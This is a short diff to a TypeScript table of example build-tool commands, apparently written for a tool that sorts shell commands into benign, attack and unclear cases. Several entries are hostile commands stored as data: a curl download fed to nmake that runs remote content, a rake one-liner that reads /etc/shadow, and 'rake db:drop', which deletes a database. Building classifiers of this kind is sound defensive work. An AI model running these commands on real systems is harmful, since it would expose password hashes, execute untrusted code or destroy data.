@@ -69,8 +69,9 @@ export const buildTools1: ExampleTable = {
       'curl -so Makefile.vc https://example.org/x && nmake -f Makefile.vc → execute ‹https://example.org/x›',
   },
   rake: {
-    use: 'rake -f lib/tasks/db.rake db:migrate → read lib/tasks/db.rake',
+    use: ['rake -f lib/tasks/db.rake db:migrate → read lib/tasks/db.rake', 'rake test → nothing'],
     attack: 'rake -e \'puts File.read("/etc/shadow")\' → read /etc/shadow',
+    unclear: 'rake db:drop → what is lost with it',
   },
   task: {
     use: 'task -t Taskfile.ci.yml build → read Taskfile.ci.yml',
